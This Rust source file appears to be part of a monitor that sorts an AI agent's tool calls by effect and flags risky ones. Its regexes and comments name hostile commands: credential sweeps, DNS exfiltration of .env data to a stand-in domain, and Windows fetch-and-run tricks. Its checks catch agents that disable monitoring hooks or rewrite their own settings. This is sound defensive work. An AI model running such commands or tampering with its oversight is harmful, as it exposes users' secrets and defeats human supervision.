//! `analyze_call`: what a tool call does and what it acts on.

use std::sync::LazyLock;

use regex::Regex;
use serde_json::Value;

use crate::facts::{
    ActionFacts, CallContext, Effect, EffectSource, Flag, Overrides, ToolAnnotations,
};
use crate::paths::{self, PathCtx};
use crate::shell::{self, Command, Script};
use crate::text::{
    as_account, as_domain, as_email, find_urls, looks_like_path, url_host, url_query,
};
use crate::tool::{KnownTool, ToolRef};

mod grants;

/// Analyzes a call without session context (relative paths stay relative, no workspace check).
pub fn analyze_call(
    tool: &ToolRef,
    args: &Value,
    annotations: Option<&ToolAnnotations>,
    overrides: &Overrides,
) -> ActionFacts {
    analyze_call_in(tool, args, annotations, overrides, &CallContext::default())
}

/// Analyzes a call in a session context (cwd, home, secret scanner).
pub fn analyze_call_in(
    tool: &ToolRef,
    args: &Value,
    annotations: Option<&ToolAnnotations>,
    overrides: &Overrides,
    ctx: &CallContext<'_>,
) -> ActionFacts {
    // a Windows working directory (`C:\Users\dev\proj`) reads the POSIX way (`/Users/dev/proj`)
    let cwd_posix: Option<String> = ctx.cwd.map(shell::posix_path);
    let cwd = cwd_posix.as_deref();
    let home = ctx
        .home
        .map(str::to_owned)
        .or_else(|| cwd.and_then(paths::guess_home));
    let mut a = Analyzer {
        f: ActionFacts::default(),
        p: PathCtx {
            cwd,
            home: home.as_deref(),
        },
        ov: overrides,
        effect: None,
        downloaded: Vec::new(),
        persist: Vec::new(),
        shell_copies: Vec::new(),
        script_text: String::new(),
    };
    let known = tool.known();
    match known {
        Some(k) => a.known_tool(k, args),
        None => a.generic_tool(tool, args, annotations),
    }

    a.judge_persistence(args);
    a.cloud_principals(args);

    // Secrets anywhere in the arguments.
    let mut budget = 256 * 1024usize;
    let mut kinds: Vec<&'static str> = Vec::new();
    each_string(args, &mut |s| {
        if budget == 0 {
            return;
        }
        let s = &s[..floor_boundary(s, budget)];
        budget = budget.saturating_sub(s.len());
        for m in ctx.secrets.find(s) {
            if !kinds.contains(&m.kind) {
                kinds.push(m.kind);
            }
        }
        // a secret sent percent-encoded (in a URL's query string, a form body)
        if s.contains('%') {
            let decoded = crate::text::percent_decode(s);
            if decoded != s {
                for m in ctx.secrets.find(&decoded) {
                    if !kinds.contains(&m.kind) {
                        kinds.push(m.kind);
                    }
                }
            }
        }
    });
    for k in kinds {
        a.f.flag(Flag::SecretInArguments, format!("arguments contain a {k}"));
    }

    let (mut effect, mut source) = a.effect.unwrap_or((Effect::Unknown, EffectSource::Default));
    let mut forced_flags = Vec::new();
    if let Some(o) = overrides.for_tool(&tool.name) {
        if let Some(e) = o.effect {
            effect = e;
            source = EffectSource::Config;
            a.f.flags.remove(&Flag::SideEffect);
            a.f.flags.remove(&Flag::Egress);
        }
        forced_flags.extend(o.flags.iter().copied());
    }
    a.f.effect = effect;
    a.f.effect_source = source;
    for fl in forced_flags {
        a.f.flag(fl, "configured for this tool");
    }
    if effect == Effect::Egress {
        a.f.flags.insert(Flag::Egress);
    }
    let spawn_only = known == Some(KnownTool::Task);
    if (matches!(effect, Effect::Write | Effect::Egress | Effect::Execute) && !spawn_only)
        || a.f.has(Flag::Destructive)
        || a.f.has(Flag::Egress)
    {
        a.f.flags.insert(Flag::SideEffect);
    }

    // Outside the workspace.
    if let Some(cwd) = cwd {
        let cwd = cwd.trim_end_matches('/');
        let outside: Vec<String> =
            a.f.read_paths
                .iter()
                .chain(a.f.write_paths.iter())
                .filter(|p| p.starts_with('/'))
                .filter(|p| !paths::is_within(p, cwd) && !scratch_path(p))
                .cloned()
                .collect();
        for p in outside.into_iter().take(4) {
            a.f.flag(Flag::OutsideWorkspace, format!("touches {p}"));
        }
    }
    a.f
}

/// Environment variables that route an agent's model or HTTP traffic (through a gateway).
fn routes_through_gateway(k: &str) -> bool {
    let k = k.to_ascii_uppercase();
    matches!(
        k.as_str(),
        "HTTPS_PROXY" | "HTTP_PROXY" | "ALL_PROXY" | "NO_PROXY"
    ) || (k.ends_with("_BASE_URL")
        && [
            "ANTHROPIC",
            "OPENAI",
            "CLAUDE",
            "LLM",
            "MODEL",
            "GEMINI",
            "AZURE_OPENAI",
        ]
        .iter()
        .any(|p| k.starts_with(p)))
}

/// A shell command that writes literal text it shows (`echo '…' >> f`, `printf … | tee f`,
/// a heredoc), as opposed to copying, linking or downloading content it does not show.
fn writes_literal_text(cmd: &str) -> bool {
    let first = cmd
        .trim_start()
        .trim_start_matches('(')
        .split_whitespace()
        .find(|w| *w != "sudo")
        .unwrap_or("");
    matches!(first, "echo" | "printf" | "cat" | "tee")
        && !cmd.contains("$(")
        && !cmd.contains('`')
        && ["cp ", "mv ", "ln ", "install ", "curl -o", "wget -o"]
            .iter()
            .all(|w| !cmd.contains(w))
}

/// The lines an `apply_patch` adds (its whole new content for an added file): a patch shows
/// what it persists, like a Write does.
fn patch_added_text(args: &Value) -> Option<String> {
    let patch = ["input", "patch", "command"]
        .iter()
        .find_map(|k| args.get(*k).and_then(Value::as_str))
        .filter(|p| p.trim_start().starts_with("*** Begin Patch"))?;
    let added: Vec<&str> = patch
        .lines()
        .take(10_000)
        .filter_map(|l| l.strip_prefix('+'))
        .collect();
    Some(added.join("\n"))
}

/// Whether persisted text runs something dangerous: downloads, network connections, decoding
/// and evaluating, interpreters fed inline code, deletion, or a hijacked prompt or preload.
fn persists_dangerous_code(text: &str) -> bool {
    static RE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r"(?i)\b(?:curl|wget|fetch|nc|ncat|netcat|socat|telnet|ssh|scp|base64|xxd|eval|iex|invoke-expression|invoke-webrequest|mkfifo|nohup|disown)\b|/dev/(?:tcp|udp)/|https?://|\b(?:python[0-9.]*|perl|ruby|node|php|bash|sh|zsh)\s+-[ce]\b|\brm\s+-[a-z]*[rf]|\bchmod\s+[0-7]*[67][0-7]{2}\b|\bLD_PRELOAD\b|\bPROMPT_COMMAND\b|\balias\s+(?:sudo|ssh|git|ls|cd)=",
        )
        .ok()
    });
    RE.as_ref().is_none_or(|re| re.is_match(text))
}

pub(crate) fn floor_boundary(s: &str, mut i: usize) -> usize {
    if i >= s.len() {
        return s.len();
    }
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

fn scratch_path(p: &str) -> bool {
    paths::is_within(p, "/tmp")
        || paths::is_within(p, "/var/tmp")
        || paths::is_within(p, "/private/tmp")
        || matches!(
            p,
            "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/stdin" | "/dev/tty"
        )
        || p.starts_with("/proc/self/")
}

fn each_string(v: &Value, f: &mut dyn FnMut(&str)) {
    match v {
        Value::String(s) => f(s),
        Value::Array(a) => a.iter().for_each(|x| each_string(x, f)),
        Value::Object(o) => o.values().for_each(|x| each_string(x, f)),
        _ => {}
    }
}

const RECIPIENT_KEYS: &[&str] = &[
    "to",
    "cc",
    "bcc",
    "recipient",
    "recipients",
    "email",
    "emails",
    "email_address",
    "address",
    "reply_to",
    "forward_to",
    "send_to",
    "destination",
    "dest",
    "target_email",
    "invitee",
    "invitees",
    "attendees",
    "from",
];
const ACCOUNT_KEYS: &[&str] = &[
    "recipient",
    "account",
    "account_number",
    "account_id",
    "iban",
    "to",
    "destination",
    "payee",
    "beneficiary",
    "creditor",
    "to_account",
    "target_account",
    "acct",
    "bic_iban",
    "wallet",
    "address",
];
const PATH_KEYS: &[&str] = &[
    "path",
    "file_path",
    "filepath",
    "file",
    "filename",
    "file_name",
    "notebook_path",
    "paths",
    "dir",
    "directory",
    "folder",
    "source",
    "src",
    "destination",
    "dest",
    "dst",
    "target",
    "target_path",
    "source_path",
    "destination_path",
    "output",
    "output_path",
    "input_path",
    "absolute_path",
    "relative_path",
    "files",
    "attachment",
    "attachments",
];
const USER_KEYS: &[&str] = &[
    "username",
    "user",
    "collaborator",
    "assignee",
    "assignees",
    "reviewer",
    "reviewers",
    "login",
    "member",
    "invitee",
    "handle",
    "user_id",
    "userid",
    "user_name",
    "team_member",
    "channel",
    "channel_id",
    "chat_id",
    "room",
    "recipient_user",
];
const URL_KEYS: &[&str] = &[
    "url",
    "uri",
    "href",
    "link",
    "endpoint",
    "webhook",
    "webhook_url",
    "callback_url",
    "target_url",
    "base_url",
    "server_url",
    "site",
];
const HOST_KEYS: &[&str] = &["host", "hostname", "domain", "server", "remote_host"];

const EGRESS_VERBS: &[&str] = &[
    "send",
    "post",
    "forward",
    "share",
    "publish",
    "upload",
    "email",
    "mail",
    "message",
    "reply",
    "tweet",
    "transfer",
    "pay",
    "payment",
    "wire",
    "invite",
    "notify",
    "submit",
    "broadcast",
    "dm",
    "sms",
    "text",
    "chat",
    "respond",
    "exfiltrate",
    "export",
    "sync",
    "fax",
    "tip",
    "donate",
    "refund",
    "payout",
    "disburse",
    "remit",
];
/// Objects whose creation publishes free text to other people (a gist, a paste, a comment on an
/// issue or pull request, a review): creating or editing one sends content out, so such a call is
/// egress even though its verb (`create`, `add`, `update`) alone would only say write.
const PUBLISH_OBJECTS: &[&str] = &[
    "gist", "gists", "paste", "pastebin", "snippet", "snippets", "comment", "comments", "review",
    "reviews",
];
/// Verbs that make or change such an object (`delete_comment` is not publishing).
const PUBLISH_MAKING_VERBS: &[&str] = &[
    "create", "add", "update", "edit", "write", "new", "make", "append", "put", "upsert", "submit",
    "post", "reply",
];
const WRITE_VERBS: &[&str] = &[
    "create",
    "update",
    "delete",
    "remove",
    "merge",
    "push",
    "write",
    "edit",
    "set",
    "add",
    "grant",
    "revoke",
    "assign",
    "move",
    "rename",
    "close",
    "archive",
    "approve",
    "deploy",
    "install",
    "insert",
    "put",
    "patch",
    "modify",
    "label",
    "comment",
    "star",
    "fork",
    "upsert",
    "save",
    "store",
    "commit",
    "drop",
    "destroy",
    "purge",
    "apply",
    "enable",
    "disable",
    "reset",
    "restart",
    "stop",
    "kill",
    "cancel",
    "lock",
    "unlock",
    "mark",
    "reopen",
    "dismiss",
    "append",
    "replace",
    "change",
    "clear",
    "truncate",
    "wipe",
    "erase",
    "upgrade",
    "uninstall",
    "schedule",
    "book",
    "order",
    "buy",
    "purchase",
    "subscribe",
    "unsubscribe",
    "block",
    "ban",
    "mute",
    "terminate",
    "rotate",
    "promote",
    "elevate",
    "attach",
    "detach",
    "configure",
    "register",
    "unregister",
    "import",
    "rollback",
    "revert",
    "tag",
    "unassign",
    "accept",
    "decline",
    "reject",
];
const EXEC_VERBS: &[&str] = &[
    "run", "exec", "execute", "eval", "evaluate", "shell", "command", "invoke", "spawn", "launch",
    "script", "trigger", "dispatch", "call",
];
const READ_VERBS: &[&str] = &[
    "get",
    "list",
    "read",
    "search",
    "fetch",
    "find",
    "query",
    "describe",
    "view",
    "show",
    "lookup",
    "count",
    "check",
    "inspect",
    "status",
    "diff",
    "browse",
    "cat",
    "head",
    "tail",
    "download",
    "retrieve",
    "load",
    "open",
    "navigate",
    "snapshot",
    "screenshot",
    "summarize",
    "explain",
    "resolve",
    "validate",
    "preview",
    "watch",
    "poll",
    "info",
    "whoami",
    "ping",
    "echo",
    "print",
    "sample",
    "scan",
    "analyze",
    "compare",
    "estimate",
    "calculate",
    "lint",
    "test",
    "tree",
    "grep",
    "glob",
    "ls",
    "stat",
    "peek",
    "parse",
    "render",
    "translate",
    "think",
    "recall",
    "retrieve",
];
const DESTRUCTIVE_VERBS: &[&str] = &[
    "delete",
    "remove",
    "drop",
    "destroy",
    "purge",
    "wipe",
    "truncate",
    "erase",
    "rm",
    "del",
    "uninstall",
    "terminate",
    "obliterate",
    "nuke",
];
const GRANT_VERBS: &[&str] = &[
    "add", "invite", "grant", "assign", "set", "update", "create", "attach", "elevate", "promote",
    "change", "modify", "put", "give", "share", "make", "transfer", "escalate",
];
const GRANT_OBJECTS: &[&str] = &[
    "collaborator",
    "collaborators",
    "member",
    "members",
    "admin",
    "admins",
    "administrator",
    "role",
    "roles",
    "permission",
    "permissions",
    "policy",
    "policies",
    "iam",
    "owner",
    "owners",
    "ownership",
    "access",
    "acl",
    "acls",
    "sudo",
    "sudoer",
    "privilege",
    "privileges",
    "scope",
    "scopes",
    "membership",
    "rolebinding",
    "maintainer",
    "maintainers",
];
const TOKEN_OBJECTS: &[&str] = &[
    "token",
    "tokens",
    "key",
    "keys",
    "credential",
    "credentials",
    "secret",
    "pat",
    "apikey",
];
const TOKEN_VERBS: &[&str] = &[
    "create", "generate", "mint", "issue", "request", "exchange", "new",
];
const ELEVATED_VALUES: &[&str] = &[
    "admin",
    "administrator",
    "owner",
    "maintain",
    "maintainer",
    "superuser",
    "root",
    "full",
    "*",
    "all",
    "write:org",
    "admin:org",
    "repo:admin",
    "site_admin",
    "cluster-admin",
    "organization_owner",
];

static SQL_PRIVILEGE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?is)(?-u:\b)(?:",
        // GRANT ALL … TO, GRANT <role> TO
        r"grant\s+(?P<granted>[a-z_, ]{1,80}?)\s+(?:on\s+[^;]{1,200}?\s+)?to\s+",
        // ALTER ROLE/USER x WITH SUPERUSER | CREATEROLE | BYPASSRLS
        r"|alter\s+(?:role|user)\s+[^;]{1,120}?(?P<attr>superuser|createrole|bypassrls|replication)",
        // UPDATE t SET role = 'admin' / is_admin = true
        r"|update\s+[a-z_.\x22]+\s+set\s+[^;]{0,200}?(?P<col>[a-z_]*(?:role|admin|superuser|permission|privilege|access_level|group)[a-z_]*)\s*=\s*'?(?P<val>[a-z0-9_ -]{1,40})",
        r")"
    ))
    .ok()
});

/// Whether a SQL text gives someone more rights: grants all privileges or an administrative
/// role, gives a role superuser-like attributes, or sets a role/admin column to an elevated
/// value (an application's own `users.role = 'owner_admin'` is an escalation in its data).
fn sql_grants_privilege(text: &str) -> Option<String> {
    let re = SQL_PRIVILEGE.as_ref()?;
    let text = &text[..floor_boundary(text, 16 * 1024)];
    for c in re.captures_iter(text).take(8) {
        if let Some(g) = c.name("granted") {
            let g = g.as_str().to_ascii_lowercase();
            if g.split([',', ' ']).any(|w| w == "all") || elevated_words(&g) {
                return Some(format!("grants {}", g.trim()));
            }
        } else if let Some(a) = c.name("attr") {
            return Some(format!("gives a role {}", a.as_str().to_ascii_lowercase()));
        } else if let (Some(col), Some(val)) = (c.name("col"), c.name("val")) {
            let v = val.as_str().trim().to_ascii_lowercase();
            let flag_col = col.as_str().to_ascii_lowercase();
            let truthy = matches!(v.as_str(), "true" | "1" | "t" | "yes");
            if elevated_words(&v) || (truthy && elevated_words(&flag_col)) {
                return Some(format!("sets {} to {v}", col.as_str()));
            }
        }
    }
    None
}

/// Whether a role or group name is an administrative one by its words, however it is spelled
/// (`Super Administrators`, `owner_admin`, `org-admins`, `SuperUser`): a word that is (or
/// begins with) `admin`, or is `owner`/`superuser`/`root` (plural or not).
fn elevated_words(lower: &str) -> bool {
    lower
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|w| !w.is_empty())
        .any(|w| {
            let w = w.strip_suffix('s').unwrap_or(w);
            w.starts_with("admin") || matches!(w, "owner" | "superuser" | "superadmin" | "root")
        })
}

struct Analyzer<'a> {
    f: ActionFacts,
    p: PathCtx<'a>,
    ov: &'a Overrides,
    effect: Option<(Effect, EffectSource)>,
    /// Files downloaded earlier in the same shell script (for download-then-execute).
    downloaded: Vec<String>,
    /// Writes to files that run later (shell startup files, cron, services, git hooks),
    /// judged once the whole call is read: what they persist decides whether they are dangerous.
    persist: Vec<(&'static str, String)>,
    /// Copies of a shell or interpreter made earlier in the same script (normalized paths):
    /// a setuid bit on one is a root shell for anyone.
    shell_copies: Vec<String>,
    /// The outermost shell script of the call, as written (what a `crontab -` is fed).
    script_text: String,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Access {
    Read,
    Write,
    Delete,
    /// Named but neither read nor written (`ls`, `stat`, `chmod`'s targets are `Write`).
    Meta,
    /// Given to a program that uses it without revealing it (`ssh -i key`, `source .env`).
    Use,
}

impl<'a> Analyzer<'a> {
    fn set_effect(&mut self, e: Effect, s: EffectSource) {
        self.effect = Some(match self.effect {
            None => (e, s),
            Some((cur, cs)) => {
                if e.rank() > cur.rank() {
                    (e, s)
                } else {
                    (cur, cs)
                }
            }
        });
    }

    /// A crontab installed from standard input whose entry the script writes out literally
    /// (`(crontab -l; echo '0 2 * * * ~/bin/backup.sh') | crontab -`) is judged by that entry,
    /// like any other write to a file that runs later: a nightly local backup is ordinary, an
    /// entry that downloads, connects out or decodes is persistence. A crontab read from a file
    /// or a download shows nothing and stays suspect.
    fn crontab_shows_harmless_entry(&self, args: &[String]) -> bool {
        let from_stdin = args.iter().all(|a| a == "-" || a.starts_with('-'));
        let text = self.script_text.as_str();
        let shown = ["echo ", "printf ", "<<"].iter().any(|w| text.contains(w));
        from_stdin && shown && !text.contains('`') && !persists_dangerous_code(text)
    }

    fn norm(&self, raw: &str) -> String {
        paths::normalize(raw, self.p)
    }

    /// A script that opens an agent's settings file and writes it back (a python heredoc, a
    /// `node -e`, `jq … > settings.json`, `sed -i`) changes them as surely as an edit does; so
    /// does starting a nested agent with hooks disabled or a throwaway config directory.
    fn settings_rewritten_by_code(&mut self, cmd: &str) {
        const SETTINGS: &[&str] = &[
            ".claude/settings",
            ".claude.json",
            ".codex/config",
            ".gemini/settings",
            ".cursor/hooks",
        ];
        const WRITES: &[&str] = &[
            "json.dump",
            "write_text",
            "writefilesync",
            "writefile(",
            ".write(",
            "sed -i",
            "'w')",
            "\"w\")",
            "> .claude",
            ">.claude",
            "mv ",
            "tee ",
            "set-content",
            "out-file",
        ];
        let lower = cmd.to_ascii_lowercase();
        if SETTINGS.iter().any(|s| lower.contains(s)) && WRITES.iter().any(|w| lower.contains(w)) {
            self.f.flag(
                Flag::OversightTamper,
                "rewrites agent settings from a script",
            );
        }
        if lower.contains("disableallhooks") {
            self.f
                .flag(Flag::OversightTamper, "starts an agent with hooks disabled");
        }
        if ["claude_config_dir=", "codex_home=", "gemini_config_dir="]
            .iter()
            .any(|k| lower.contains(k))
            && ["claude ", "codex ", "gemini "]
                .iter()
                .any(|p| lower.contains(p))
        {
            self.f.flag(
                Flag::OversightTamper,
                "starts an agent with a separate config directory (without the monitoring hooks)",
            );
        }
    }

    /// A write to a file that runs later is dangerous when what it persists is: code that
    /// downloads, connects out, decodes or deletes — or content the call does not show (a copy,
    /// a link, a download). A PATH export in `.bashrc` or a lint step in a git hook is ordinary
    /// setup; a git hook whose content is not shown is a repository's own script.
    fn judge_persistence(&mut self, args: &Value) {
        if self.persist.is_empty() {
            return;
        }
        let content: Option<String> = ["content", "new_string", "new_source"]
            .iter()
            .find_map(|k| args.get(*k).and_then(Value::as_str).map(str::to_owned))
            .or_else(|| {
                args.get("command")
                    .and_then(Value::as_str)
                    .filter(|c| writes_literal_text(c))
                    .map(str::to_owned)
            })
            .or_else(|| patch_added_text(args));
        let dangerous = content.as_deref().map(persists_dangerous_code);
        // a git hook written by a command that does not show the content (a link to a repo
        // script, a download) is judged by the command itself
        let command_dangerous = args
            .get("command")
            .and_then(Value::as_str)
            .is_some_and(persists_dangerous_code);
        for (kind, shown) in std::mem::take(&mut self.persist) {
            let flag = if kind == "git hook" {
                dangerous.unwrap_or(command_dangerous)
            } else {
                dangerous != Some(false)
            };
            if flag {
                self.f.flag(
                    Flag::DangerousCommand,
                    format!("writes to a {kind} ({shown})"),
                );
            }
        }
    }

    /// `find ROOT -name '.env*' -exec cat {} \;`: every file the name pattern matches is
    /// printed, so a pattern that names a credential store reads each store under ROOT.
    fn find_prints_credential_stores(&mut self, args: &[String], roots: &[String]) {
        const READERS: &[&str] = &[
            "cat", "head", "tail", "less", "more", "strings", "grep", "rg", "awk", "sed", "base64",
            "xxd", "od", "tar", "zip", "cp", "curl",
        ];
        let Some(exec) = args
            .iter()
            .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
        else {
            return;
        };
        let prints = args[exec + 1..]
            .iter()
            .flat_map(|a| a.split(|c: char| c.is_whitespace() || c == ';' || c == '|'))
            .any(|w| READERS.contains(&w.rsplit('/').next().unwrap_or(w)));
        if !prints {
            return;
        }
        let root = roots.first().map_or(".", String::as_str);
        for w in args.windows(2) {
            if !matches!(w[0].as_str(), "-name" | "-iname") {
                continue;
            }
            // `.env*` names `.env` and its variants; `*.pem` names any `x.pem`
            let name = w[1].trim_end_matches('*').replace('*', "x");
            let probe = self.norm(&format!("{}/{name}", root.trim_end_matches('/')));
            if let Some(kind) =
                paths::credential_store(&probe, self.p.home, &self.ov.credential_paths)
            {
                self.f.flag(
                    Flag::CredentialStoreRead,
                    format!("prints every {kind} under {root} (find -exec)"),
                );
                return;
            }
        }
    }

    /// Windows' credential stores read through their own tools: `vaultcmd /listcreds`, the
    /// CredentialManager module's `Get-StoredCredential`, SecretManagement's `Get-Secret` (the
    /// WinRT `PasswordVault` is read at the script's text level, see `shell`).
    fn windows_credential_store(&mut self, prog: &str, args: &[String]) {
        let prog = prog.trim_end_matches(".exe");
        let reads = match prog {
            "vaultcmd" => args
                .iter()
                .any(|a| a.to_ascii_lowercase().starts_with("/listcreds")),
            "get-storedcredential" | "get-secret" => true,
            _ => false,
        };
        if reads {
            self.f.flag(
                Flag::CredentialStoreRead,
                format!("reads the Windows credential store ({prog})"),
            );
        }
    }

    /// Windows programs that fetch a script or package from a URL and run it in one step:
    /// `regsvr32 /i:URL scrobj.dll`, `mshta URL|vbscript:|javascript:`, `rundll32 javascript:…`,
    /// `msiexec /i URL`; and `certutil -urlcache -f URL OUT` / `bitsadmin /transfer … URL OUT`,
    /// which download a file the script may run next.
    fn fetches_and_runs_script(&mut self, prog: &str, args: &[String]) {
        let prog = prog.trim_end_matches(".exe");
        let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
        let remote = |a: &str| a.contains("://") || a.contains("script:http");
        let runs = match prog {
            "regsvr32" => lower
                .iter()
                .any(|a| (a.starts_with("/i:") || a.starts_with("-i:")) && remote(a)),
            "mshta" => lower
                .iter()
                .any(|a| remote(a) || a.starts_with("vbscript:") || a.starts_with("javascript:")),
            "rundll32" => lower
                .iter()
                .any(|a| a.starts_with("javascript:") || a.contains("runhtmlapplication")),
            "msiexec" => lower
                .windows(2)
                .any(|w| matches!(w[0].as_str(), "/i" | "-i" | "/package" | "/j") && remote(&w[1])),
            _ => false,
        };
        if runs {
            let why = format!("{prog} runs a script or package fetched from the network");
            self.f.flag(Flag::RemoteCode, why.clone());
            self.f.flag(Flag::DangerousCommand, why);
            for a in args.iter().filter(|a| a.contains("://")) {
                for u in find_urls(a) {
                    self.url(&u);
                }
            }
            return;
        }
        let downloads = (prog == "certutil" && lower.iter().any(|a| a == "-urlcache"))
            || (prog == "bitsadmin" && lower.iter().any(|a| a == "/transfer"));
        if downloads && lower.iter().any(|a| a.contains("://")) {
            if let Some(out) = args
                .iter()
                .rev()
                .find(|a| !a.starts_with(['-', '/']) && !a.contains("://"))
            {
                let n = self.norm(out);
                if self.downloaded.len() < 16 {
                    self.downloaded.push(n);
                }
            }
        }
    }

    /// A sweep for credential files whose list feeds a reader: `find ~ -name '*.pem' | xargs
    /// cat`, `locate '*.pfx' | xargs base64`, `Get-ChildItem -Recurse -Include *.key | Get-Content`
    /// (the pipeline's reader is read with the sweep's name patterns).
    fn sweep_feeds_reader(&mut self, c: &Command, idx: usize, pipeline: &[Command]) {
        let prog = c.program();
        let Some(next) = pipeline.get(idx + 1) else {
            return;
        };
        let reader = next.program();
        if !SWEEP_READERS.contains(&reader.as_str()) {
            return;
        }
        if let Some(kind) = self.credential_sweep(c) {
            self.f.flag(
                Flag::CredentialStoreRead,
                format!("prints every {kind} a {prog} sweep lists ({prog} | {reader})"),
            );
        }
    }

    /// A loop over a sweep's list whose body reads each file: `for f in $(find ~ -name
    /// '*.p12'); do base64 "$f"; done` (the sweep is a substitution of the script).
    fn sweep_loop_reads(&mut self, script: &Script) {
        if !self.script_text.contains("for ") {
            return;
        }
        let reads_variable = script.commands().any(|c| {
            SWEEP_READERS.contains(&c.program().as_str())
                && c.args().iter().any(|a| a.starts_with('$'))
        });
        if !reads_variable {
            return;
        }
        for p in script.pipelines.iter().filter(|p| p.depth > 0) {
            let Some(first) = p.commands.first() else {
                continue;
            };
            if let Some(kind) = self.credential_sweep(first) {
                let prog = first.program();
                self.f.flag(
                    Flag::CredentialStoreRead,
                    format!("prints every {kind} a {prog} sweep lists (a loop over it)"),
                );
                return;
            }
        }
    }

    /// The kind of credential store a file sweep (`find`, `locate`, `fd`, `Get-ChildItem`)
    /// selects by name, if any: each name pattern is tried as a file under the sweep's root
    /// (`id_*` under an `.ssh` folder, where such names live).
    fn credential_sweep(&self, c: &Command) -> Option<&'static str> {
        const SWEEPERS: &[&str] = &[
            "find",
            "locate",
            "mlocate",
            "plocate",
            "fd",
            "fdfind",
            "get-childitem",
            "gci",
        ];
        let prog = c.program();
        if !SWEEPERS.contains(&prog.as_str()) {
            return None;
        }
        let args = c.args();
        let patterns = sweep_patterns(&prog, args);
        let root = args
            .iter()
            .find(|a| (!a.starts_with('-') && looks_like_path(a)) || *a == "~")
            .filter(|a| !patterns.iter().any(|p| a.ends_with(p.as_str())))
            .map_or(".", String::as_str)
            .trim_end_matches('/');
        patterns.iter().take(8).find_map(|name| {
            let name = name.trim_end_matches('*').replace('*', "x");
            let dir = if name.starts_with("id_") { "/.ssh" } else { "" };
            let probe = self.norm(&format!("{root}{dir}/{name}"));
            paths::credential_store(&probe, self.p.home, &self.ov.credential_paths)
        })
    }

    /// A delete operand that is a variable followed only by `/` or `/*` (`"$APPCACHE"/*`,
    /// `${OUT}/`): when the variable is unset or misspelled it names the filesystem root. A
    /// variable the script assigns, loops over literal names, guards (`${DIR:?}`) or that is the
    /// home directory is not that.
    fn unguarded_variable_root(&self, raw: &str) -> bool {
        let Some(rest) = raw.strip_prefix('$') else {
            return false;
        };
        let (var, tail) = match rest.strip_prefix('{') {
            Some(r) => match r.split_once('}') {
                Some((v, t)) => (v, t),
                None => return false,
            },
            None => {
                let end = rest
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(rest.len());
                (&rest[..end], &rest[end..])
            }
        };
        let plain = !var.is_empty() && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        plain
            && matches!(tail, "/" | "/*" | "/.*")
            && !matches!(var, "HOME" | "PWD")
            && !self.script_text.contains(&format!("{var}="))
            && !shell::loop_over_literals(&self.script_text, var)
    }

    /// A DNS lookup whose leading label is a shell variable in front of a domain
    /// (`dig $c.x.example` in `for c in $(base32 .env)`, `nslookup ${l}.x.example` after
    /// `xxd -p key | while read l`) sends the variable's content to the domain's name server,
    /// unless the script bound the variable to a literal list of names (`for h in api db`).
    fn dns_label_from_variable(&mut self, args: &[String]) {
        for a in args.iter().filter(|a| a.starts_with('$')) {
            let Some((label, rest)) = a.split_once('.') else {
                continue;
            };
            let var = label.trim_start_matches('$').trim_matches(['{', '}']);
            let named =
                !var.is_empty() && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
            if !named || shell::loop_over_literals(&self.script_text, var) {
                continue;
            }
            if let Some(d) = as_domain(rest) {
                self.f.flag(
                    Flag::Egress,
                    "DNS lookup carrying a variable's data in a label",
                );
                self.f.targets.hosts.insert(d);
            }
        }
    }

    /// A search whose pattern is a credential's signature (a private-key header, a cloud key
    /// id prefix, `password=`) run over the whole home directory or filesystem: not looking
    /// for code, collecting every secret on the machine.
    fn secret_sweep(&mut self, args: &[String]) {
        const SIGNATURES: &[&str] = &[
            "private key",
            "akia",
            "secret_access_key",
            "aws_secret",
            "ghp_",
            "github_pat",
            "xox",
            "sk_live",
            "api_key",
            "apikey",
            "api-key",
            "password",
            "passwd",
            "secret",
            "token",
        ];
        let (mut pattern, mut wide) = (false, false);
        for a in args.iter().filter(|a| !a.starts_with('-')) {
            let lower = a.to_ascii_lowercase();
            if SIGNATURES.iter().any(|s| lower.contains(s)) && !looks_like_path(a) {
                pattern = true;
            } else if looks_like_path(a) || a == "~" {
                let n = self.norm(a);
                let home = self.p.home.map(|h| h.trim_end_matches('/'));
                wide |= n == "/" || Some(n.trim_end_matches('/')) == home;
            }
        }
        if pattern && wide {
            self.f.flag(
                Flag::CredentialStoreRead,
                "searches the whole home directory or disk for credentials",
            );
        }
    }

    fn path(&mut self, raw: &str, access: Access) -> String {
        let raw = raw.trim();
        let n = self.norm(raw);
        if raw.is_empty() || self.f.targets.paths.len() >= 128 {
            return n;
        }
        self.f.targets.paths.insert(n.clone());
        match access {
            Access::Read => {
                self.f.read_paths.insert(n.clone());
                if let Some(kind) =
                    paths::credential_store(&n, self.p.home, &self.ov.credential_paths)
                {
                    self.f.flag(
                        Flag::CredentialStoreRead,
                        format!("reads {kind} {}", display_path(raw, &n)),
                    );
                }
            }
            Access::Write | Access::Delete => {
                self.f.write_paths.insert(n.clone());
                if access == Access::Delete {
                    self.f.flag(
                        Flag::Destructive,
                        format!("deletes {}", display_path(raw, &n)),
                    );
                    self.hook_program_removed(raw, &n);
                }
                if let Some(kind) = paths::agent_settings(&n) {
                    self.f.flag(
                        Flag::OversightTamper,
                        format!("modifies {kind} ({})", display_path(raw, &n)),
                    );
                }
                if let Some(kind) = paths::startup_file(&n, self.p.home) {
                    if self.persist.len() < 8 {
                        self.persist.push((kind, display_path(raw, &n)));
                    }
                }
                if n.starts_with("/etc/sudoers")
                    || n == "/etc/passwd"
                    || n == "/etc/group"
                    || n == "/etc/shadow"
                {
                    self.f
                        .flag(Flag::PrivilegeEscalation, format!("modifies {n}"));
                }
            }
            Access::Meta | Access::Use => {}
        }
        n
    }

    /// The files an `apply_patch` updates. An update of agent settings that weakens nothing
    /// (a formatter hook added beside the existing ones, a model changed) is a plain write,
    /// as the same edit through the Edit tool is.
